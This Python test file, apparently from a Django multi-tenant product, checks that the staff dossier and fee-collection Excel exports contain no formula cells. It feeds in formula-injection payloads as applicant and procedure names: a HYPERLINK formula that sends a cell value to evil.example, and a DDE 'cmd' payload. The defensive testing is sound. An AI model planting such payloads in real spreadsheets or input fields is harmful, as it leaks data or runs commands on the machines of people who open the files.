"""Exports are data, not code (issue 10, item 5): every Excel the product makes, fed with formula-like
names, opens with no formula cell; the names read back as written."""

from __future__ import annotations

import io
import re
from pathlib import Path

import httpx
from django_tenants.utils import schema_context
from openpyxl import load_workbook

from tests.tenants.dossiers.helpers import build_office, receive

ROOT = Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("http://evil.example/?id="&D2,"Bấm vào đây")'
OTHERS = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
# The product modules that build a workbook; a new one must be added here (and to a test below).
EXPORTERS = {"billing/fees/excel.py", "tenants/dossiers/export.py"}


def _cells(content: bytes) -> list:
    wb = load_workbook(io.BytesIO(content))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def _assert_data_only(content: bytes, *expected: str) -> None:
    cells = _cells(content)
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == []
    values = {c.value for c in cells}
    for text in expected:
        assert text in values  # the text itself, unchanged


def test_every_workbook_in_product_code_is_tested_here():
    found = set()
    for path in ROOT.rglob("*.py"):
        rel = path.relative_to(ROOT).as_posix()
        if rel.startswith((".venv/", "tests/", "devtools/")) or "/migrations/" in rel:
            continue
        if re.search(r"\bWorkbook\s*\(", path.read_text(encoding="utf-8")):
            found.add(rel)
    assert found == EXPORTERS


def test_worklist_and_search_exports_have_no_formula(tenant_a, client_a):
    with schema_context(tenant_a.schema_name):
        office = build_office()
        evil = receive(office, applicant={"applicant_name": EVIL})
        others = [receive(office, applicant={"applicant_name": name}) for name in OTHERS]
        client_a.force_login(office.processor)
    search = client_a.get(f"/staff/dossiers/?q={evil.code}&xuat=excel")
    assert search.status_code == 200
    _assert_data_only(search.content, EVIL, evil.code)
    worklist = client_a.get("/staff/dossiers/?ds=thu-ly&xuat=excel")  # every new dossier waits here
    assert worklist.status_code == 200
    _assert_data_only(worklist.content, EVIL, *OTHERS, *(d.code for d in others))


def test_fee_collections_export_has_no_formula(tenant_a, client_a):
    from billing.fees.confirm import ipn_handle
    from billing.fees.models import Payment
    from billing.fees.services import payment_request_create, terminal_save
    from billing.gateways.vnpay import signed_query
    from core.accounts.models import User

    with schema_context(tenant_a.schema_name):
        client_a.force_login(User.objects.get(username="admin-alpha"))
        terminal_save(tmn_code="EVILXLS1", hash_secret="evil-xlsx-secret-123")
        for i, name in enumerate([EVIL, *OTHERS]):
            req = payment_request_create(subject_type="xlsx-formula", subject_id=i, reference=f"HS-F{i}",
                                         amount_vnd=10_000, description="Lệ phí", procedure_name=name,
                                         unit_name=name)
            p = Payment.objects.create(request=req, txn_ref=f"XLSF{i}", idempotency_key=f"xlsf-{i}",
                                       amount_vnd=10_000)
            ipn = {"vnp_TmnCode": "EVILXLS1", "vnp_Amount": "1000000", "vnp_ResponseCode": "00",
                   "vnp_TransactionStatus": "00", "vnp_TxnRef": p.txn_ref, "vnp_TransactionNo": str(900 + i),
                   "vnp_BankCode": "NCB", "vnp_PayDate": "20260101120100", "vnp_OrderInfo": "x"}
            params = dict(httpx.QueryParams(signed_query(ipn, "evil-xlsx-secret-123")))
            assert ipn_handle(provider="vnpay", params=params)["RspCode"] == "00"
    for by in ("procedure", "unit", "day"):
        xlsx = client_a.get(f"/staff/billing/?by={by}&format=xlsx")
        assert xlsx.status_code == 200
        if by == "day":
            _assert_data_only(xlsx.content)
        else:
            _assert_data_only(xlsx.content, EVIL, *OTHERS)
